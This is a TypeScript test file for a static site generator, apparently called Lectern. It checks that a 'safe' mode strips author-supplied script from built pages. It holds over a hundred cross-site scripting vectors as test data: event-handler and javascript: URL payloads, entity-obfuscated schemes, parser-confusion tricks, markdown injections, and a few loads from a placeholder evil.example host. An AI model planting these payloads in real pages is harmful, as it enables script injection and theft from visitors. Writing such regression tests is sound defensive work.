import { type DefaultTreeAdapterMap, parse } from 'parse5'
import { describe, expect, test } from 'vitest'
import { site } from '../site.ts'

/** With `safe: true`, nothing that an author writes runs in a reader's browser. Pages are read as a browser reads them. */

type Node = DefaultTreeAdapterMap['node']
type Element = DefaultTreeAdapterMap['element']

function* elements(node: Node): Generator<Element> {
  if ('tagName' in node) yield node
  if ('childNodes' in node) for (const child of node.childNodes) yield* elements(child)
}

const FORBIDDEN = new Set(
  'script style iframe frame object embed applet form input button textarea select base meta link svg math template noscript marquee'.split(
    ' ',
  ),
)

/** What of a page could run, load or ask for something that the author of a page must not. */
function dangersOf(html: string): string[] {
  return [...elements(parse(html))].flatMap(({ tagName, attrs }) => [
    ...(FORBIDDEN.has(tagName) ? [`<${tagName}>`] : []),
    ...attrs.flatMap(({ name, value }) => {
      const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(value.replace(/[\s\p{Cc}]/gu, ''))?.[1]?.toLowerCase()
      const isAddress = /^(?:href|src|action|formaction|poster|cite|xlink:href|background|srcset|ping)$/.test(name)
      return /^on|^style$|^formaction$|^srcset$|^ping$|^background$|^xlink:/.test(name) ||
        (isAddress &&
          scheme !== undefined &&
          !['http', 'https', 'mailto', 'tel'].includes(scheme) &&
          !/^data:image\/png/.test(value))
        ? [`${tagName} ${name}="${value}"`]
        : []
    }),
  ])
}

const vectors: readonly string[] = [
  '<script>steal()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<script/src="data:text/javascript,steal()"></script>',
  '<script\n>steal()\n</script\n>',
  '<script>steal()',
  '<img src=x onerror=steal()>',
  '<img src=x onerror="steal()"//>',
  "<img src='x'onerror='steal()'>",
  '<img/src/onerror=steal()>',
  '<img src="x` `"onerror=steal()">',
  '<img """><script>steal()</script>">',
  '<img src=x:steal() onerror=eval(src)>',
  '<img src="java\tscript:steal()">',
  '<img srcset="x onerror=steal() 1x">',
  '<image src=x onerror=steal()>',
  '<body onload=steal()>',
  '<div onmouseover="steal()">x</div>',
  '<div ONMOUSEOVER=steal()>x</div>',
  '<div on\nclick=steal()>x</div>',
  '<div style="background:url(javascript:steal())">x</div>',
  '<div style=width:expression(steal())>x</div>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<a href="javascript:steal()">x</a>',
  '<a href="JaVaScRiPt:steal()">x</a>',
  '<a href=" &#14; javascript:steal()">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;steal()">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;steal()">x</a>',
  '<a href="&#0000106avascript:steal()">x</a>',
  '<a href="java&Tab;script&colon;steal()">x</a>',
  '<a href="java&NewLine;script:steal()">x</a>',
  '<a href="javascript&colon;steal()">x</a>',
  '<a href="\u0001javascript:steal()">x</a>',
  '<a href="java\u00adscript:steal()">x</a>',
  '<a href="vbscript:steal()">x</a>',
  '<a href="data:text/html,<script>steal()</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="view-source:javascript:steal()">x</a>',
  '<a href="blob:steal">x</a>',
  '<a href=javascript:steal()>x</a>',
  '<a xlink:href="javascript:steal()">x</a>',
  '<a href="//evil.example" ping="//evil.example/ping">x</a>',
  '<svg onload=steal()></svg>',
  '<svg><script>steal()</script></svg>',
  '<svg><a xlink:href="javascript:steal()"><text>x</text></a></svg>',
  '<svg><animate onbegin=steal() attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:steal()">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=steal()&gt;">',
  '<iframe src="javascript:steal()"></iframe>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<object data="javascript:steal()"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action="javascript:steal()"><input type=submit></form>',
  '<button formaction="javascript:steal()">x</button>',
  '<input autofocus onfocus=steal()>',
  '<details open ontoggle=steal()>x</details>',
  '<video><source onerror=steal()></video>',
  '<video poster="javascript:steal()"></video>',
  '<audio src=x onerror=steal()></audio>',
  '<base href="javascript:/a/+steal()//">',
  '<meta http-equiv=refresh content="0;url=javascript:steal()">',
  '<table background="javascript:steal()"><tr><td>x</table>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=steal()>"></textarea>',
  '<title><img title="</title><img src=x onerror=steal()>"></title>',
  '<template><img src=x onerror=steal()></template>',
  '<xmp><img title="</xmp><img src=x onerror=steal()>"></xmp>',
  '<!--><img src=x onerror=steal()>-->',
  '<!-- --!><img src=x onerror=steal()> -->',
  '<![CDATA[<img src=x onerror=steal()>]]>',
  '<?xml <img src=x onerror=steal()> ?>',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=steal()>">]>',
  '<p title="<img src=x onerror=steal()>">x</p>',
  "<p title='\"><img src=x onerror=steal()>'>x</p>",
  '<p class="x\n\n"><img src=x onerror=steal()>',
  '<div title="\n\n" onclick="steal()">x</div>',
  '</p onclick=steal()>',
  '<x onclick=steal()>y</x>',
  '<b/onclick=steal()>x</b>',
  '<b \u0000onclick=steal()>x</b>',
  '<\u0000script>steal()</script>',
  '<b title=`onclick=steal()`>x</b>',
  '<<b onclick=steal()>>',
  '[x](javascript:steal())',
  '[x](<javascript:steal()>)',
  '[x](java&#x0A;script:steal())',
  '![x](javascript:steal())',
  '<javascript:steal()>',
  '[x]: javascript:steal()\n\n[x]',
  '[x](https://example.org){onclick=steal() style=x}',
  '![x](" onerror=steal())',
  '![x](x.png "\\" onerror=steal() x=\\"")',
  '![" onerror=steal() x="](x.png)',
  '# x {onclick=steal()}',
  '```"onclick=steal()\nx\n```',
  '``` html" onclick="steal()\nx\n```',
  '%-- constant: {evil: "<img src=x onerror=steal()>"} --%\n\n%evil <p title="%evil">x</p>\n\n<p>%evil</p>',
  '%-- constant: {evil: "javascript:steal()"} --%\n\n[x](%evil) <a href="%evil">x</a>',
  '%-- constant: {q: "\\" onclick=\\"steal()"} --%\n\n<p title="%q" class=%q>x</p> [x](https://example.org/%q "%q")',
  '%-- figure: {source: "javascript:steal()", id: FigA} --%',
  '%-- figure: {source: x.svg, id: FigA, link: "javascript:steal()", alt: "\\" onerror=steal()", caption: "<img src=x onerror=steal()>"} --%',
  '%-- figure: {source: x.svg, id: "FigA\\" onclick=\\"steal()"} --%',
  '%-- video: {source: youtube, id: VidA, videoid: "x\\" onclick=\\"steal()"} --%',
  '%-- video: {source: "javascript:steal()", id: VidA} --%',
  '%-- github: {user: "x\\" onclick=\\"steal()"} --%',
  '%-- toc: {exclude: "<script>"} --%',
  '%static:x.svg" onclick="steal()%',
  '%link:" onclick="steal()%',
  '%ref:a#" onclick="steal()%',
  '$\\href{javascript:steal()}{x}$ $\\includegraphics{x" onerror="steal()}$ $\\class{" onclick="steal()}{x}$',
  '[^<img src=x onerror=steal()>]\n\n[^a]: <img src=x onerror=steal()>\n\nx[^a]',
  '*[<b onclick=steal()>]: " onclick="steal()\n\n<b onclick=steal()> AB\n\n*[AB]: " onclick="steal()',
  'doi:10.1000/"onclick="steal()',
  '> [!NOTE]\n> <img src=x onerror=steal()>',
  '| <img src=x onerror=steal()> |\n|---|\n| <script>steal()</script> |',
  '<div markdown="1" onclick="steal()">\n<script>steal()</script>\n\n<div onclick="steal()">\n\n<script>steal()</script>\n</div>\n</div>',
  '- <script>\n\n  steal()</script>',
  '<pre><script>steal()</script></pre> text <pre><img src=x onerror=steal()></pre>',
  'text <textarea> <img src=x onerror=steal()> </textarea>',
  'text <script> <img src=x onerror=steal()>',
]

const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="10"/>'

function build(page: string) {
  return site({
    'site.yaml': 'safe: true\n',
    'content/index.md': page,
    'content/part.md': page,
    'content/x.svg': svg,
    'content/x.csv': 'a\n<img src=x onerror=steal()>\n',
  }).build({ keepGoing: true })
}

describe('a site whose authors are not trusted', () => {
  test.each(vectors)('is safe from %j', (vector) => {
    for (const page of [
      `# A\n\n${vector}\n`,
      `# A\n\nText ${vector} text\n`,
      `# A\n\n- item\n\n  ${vector.replaceAll('\n', '\n  ')}\n`,
      `# A\n\n> ${vector.replaceAll('\n', '\n> ')}\n`,
      `# ${vector.replaceAll('\n', ' ')}\n\n[TOC]\n`,
      `---\ntitle: ${JSON.stringify(vector)}\n---\n\nx\n`,
      `# A\n\n<div markdown="1">\n${vector}\n</div>\n`,
    ]) {
      const built = build(page)
      // The bare templates of these tests show the text of a page, and nothing else.
      for (const [path, html] of Object.entries(built.outputs()))
        if (path.endsWith('index.html')) expect(dangersOf(html), html).toEqual([])
    }
  })

  test('keeps what harms nobody, and all that Lectern makes', () => {
    const page =
      'Some <b class="x" id="y">bold</b> <kbd>k</kbd>, <a href="x.svg" title="t">x</a> <img src="x.svg" alt="">.\n\n' +
      '<details open>\n<summary>More</summary>\n\nText *in* it, $x^2$, %FigA, <a href="%url:part%">%FigA</a>.\n\n</details>\n\n' +
      '<table><tr><th colspan="2">1</table>\n\n' +
      '%-- figure: {source: x.svg, id: FigA, caption: "A <sub>1</sub>"} --%\n\n- [x] task\n\n```js\nlet x\n```\n'
    const files = { 'content/index.md': page, 'content/part.md': '# P\n', 'content/x.svg': svg }
    const free = site(files).build()
    const safe = site({ ...files, 'site.yaml': 'safe: true\n' }).build()
    const same = (html: string): string => html.replaceAll('alt=""', 'alt')
    expect(same(safe.expectCodes().page('index.html'))).toBe(same(free.page('index.html')))
  })

  test('is told what was left out, and where', () => {
    const built = build('# A\n\nText <b onclick="x()">b</b>.\n')
    expect(built.printed()).toContain(
      'content/index.md:3:6  warning  html/not-allowed  `onclick` is not allowed in pages of this site, and is left out.',
    )
  })

  test('keeps files with a dot to itself, also from included code', () => {
    const built = site({
      'site.yaml': 'safe: true\n',
      '.env': 'PASSWORD=1\n',
      'content/index.md': '%-- code: {source: /.env, id: LstA} --%\n\n%-- include: ../.env --%\n\n[x](/.env)\n',
    }).build({ keepGoing: true })
    expect(JSON.stringify(built.outputs())).not.toContain('PASSWORD')
  })
})
